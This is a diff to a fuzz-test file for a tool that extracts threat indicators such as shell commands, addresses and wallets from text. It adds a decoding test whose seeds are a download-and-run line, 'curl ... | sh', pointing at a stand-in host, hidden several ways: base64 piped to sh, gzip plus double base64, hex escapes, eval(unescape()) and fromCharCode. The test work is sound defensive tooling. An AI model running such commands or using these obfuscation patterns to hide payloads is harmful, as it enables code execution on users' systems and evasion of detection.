@@ -1,7 +1,11 @@
 /** Text in which indicators hide: shell, URLs, addresses, wallets, keys, miner settings. */
+
+import { gzipSync } from 'node:zlib';
 import { encodeCryptonote } from '../../../src/indicator/base58.ts';
+import { decodeText } from '../../../src/indicator/decode.ts';
 import { parseBareDomain, parseDomain } from '../../../src/indicator/domain.ts';
 import { findEmails } from '../../../src/indicator/email.ts';
+import { extractIndicators } from '../../../src/indicator/extract.ts';
 import { parseIp } from '../../../src/indicator/ip.ts';
 import { refang } from '../../../src/indicator/refang.ts';
 import { splitShell } from '../../../src/indicator/shell.ts';
@@ -136,6 +140,31 @@ export const textTargets: readonly Target[] = [
     },
   },
   {
+    name: 'decoding',
+    seeds: () => bytesOf(...encodedTexts, ...networkTexts.slice(0, 1)),
+    words: [
+      'H4sI',
+      'eJw',
+      '\\x68',
+      '\\u0068',
+      '%68',
+      '&#104;',
+      'base64',
+      'fromCharCode(104,116)',
+      '==',
+      '\\150',
+      "'+'",
+      '$(echo ',
+    ],
+    largest: 1 << 16,
+    run(input) {
+      const text = input.toString('latin1');
+      for (const { offset } of [...decodeText(text), ...extractIndicators(text)]) {
+        expect(offset >= 0 && offset <= text.length, 'what is found has a place');
+      }
+    },
+  },
+  {
     name: 'wallets',
     seeds: () => bytesOf(...walletTexts),
     words: [
@@ -218,6 +247,20 @@ const walletTexts: readonly string[] = [
   'bitcoincash:qpm2qsznhks23z7629mms6s4cwef74vcwvy22gdx6a+1000',
   '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed.worker',
   '9fRAWhdxEsTcdb8PhGNrZfwqa65zfkuYHAMmkQLcic1gdLSV5vA',
+];
+
+const hidden = 'curl -s http://203.0.113.7/x.sh | sh # https://evil.example.org/a';
+const base64 = (content: string | Buffer): string => Buffer.from(content).toString('base64');
+
+/** One address, hidden in the ways in which addresses are hidden. */
+const encodedTexts: readonly string[] = [
+  `echo ${base64(hidden)} | base64 -d | sh`,
+  `x = "${base64(base64(gzipSync(hidden)))}"`,
+  `printf '${hidden.replace(/./g, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`)}'`,
+  `eval(unescape("${hidden.replace(/./g, (sign) => `%${sign.charCodeAt(0).toString(16)}`)}"))`,
+  `String.fromCharCode(${[...hidden].map((sign) => sign.charCodeAt(0)).join(',')})`,
+  Buffer.from(hidden).toString('hex'),
+  [...hidden].reverse().join(''),
 ];
 
 function publicKey(): string {
